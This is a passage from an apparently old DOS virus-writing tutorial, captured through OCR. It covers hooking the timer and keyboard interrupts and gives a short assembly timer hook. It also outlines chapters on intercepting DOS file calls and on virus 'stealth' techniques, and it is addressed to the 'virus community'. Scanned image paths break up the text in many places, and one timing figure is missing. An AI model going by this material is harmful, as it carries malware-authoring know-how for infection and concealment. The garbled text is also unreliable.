08 vs 1cThere's two timer interrupts. The main heartbeat of the computer (interrupt 08, IRQ0) which can't be interrupted by any other interrupt (except NMI), and the other one (interrupt 1ch, no IRQ). Interrupt 1ch is called FROM int 08. So you would naturally go for int 8?

This is not always such a good idea. If the main timer gets too loaded down, it might interrupt itself and the computer will hang. It's OK if you've just got a little timer hooked on, but if you have massivechecks and double checksand checks for the number of NOPs in the average compiled basic program, then you've got no hope of tacking it on to interrupt 8.

Keeping time

Simple as tripping over a tab of LSD. (ahhh comedian)...

        inc byte ptr cs:[timer]jmp dword ptr cs:[save_int_08]

The timer ticks 18.2 times per second -- once every milliseconds. Therefore, for a pause of 1 second, you reset the timer byte and wait until it exceeds 18! Wow! Isn't that hard to understand?!

So for a 30 minute delay, we wait until the counter exceeds...

    18 times/second
    * 60 seconds/minute
    * 30 minutes

some number I can't figure out in my headTriggering events

You don't just sit there in an endless loop waiting for 30 minutes. Every time your interruptroutine is called, check to see if the counter has exceeded that number (18*60*30), and if so, go do the particular event and reset the timer.

Keyboard interrupt

The keyboard interrupt (int 09) sits on IRQ1, the second highest IRQ (which means it can only be interrupted by IRQ0, the system timer). An interrupt is generated on line 1 every time a key is pressed or released.

Each key has its own scan code.

Ctrl-Alt-Del detection

The only one we're really interested in.


8.3 DOS Interrupts
8.31 File Open (handle)
8.32 File Rename (handle)
8.33 Attribute Change
8.34 Execution
8.35 Extended Open (handle) (DOS 5+)8.4 Quasi-Stealth operations
8.41 Find First, Find Next (FCB)
8.42 Find First, Find Next (handle)
8.5 Stealth operations
8.51 File Open
8.52 Restoring original code
8.53 Truncating the file
8.54 File Close


I hope this makes a huge contribution to the virus community as a whole. With that said I can now apologize for massive mood swings during the text file, but right now I'm fucked and I wanna go to bed.

One last greet:

[Back toindex] [Comments]
By accessing, viewing, downloading or otherwise using thiscontent you agree to be bound by the Terms of Use! aka